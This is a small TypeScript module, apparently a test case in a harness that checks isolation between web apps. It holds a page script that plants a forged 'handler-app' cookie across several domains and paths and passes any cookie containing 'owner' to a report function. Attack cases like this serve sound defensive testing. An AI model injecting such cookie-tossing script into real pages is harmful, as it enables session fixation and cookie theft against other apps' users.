import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "cookies tossed at another app",
  script: `
    for (const domain of ["localhost", ".localhost", new URL(victim).hostname, ""]) {
      for (const path of ["/", "/api", "/api/notes"]) {
        const value = "9999999999.mallory." + "0".repeat(64);
        document.cookie = "handler-app=" + value + "; path=" + path + (domain ? "; domain=" + domain : "");
      }
    }
    if (document.cookie.includes("owner")) report(document.cookie);
  `,
};
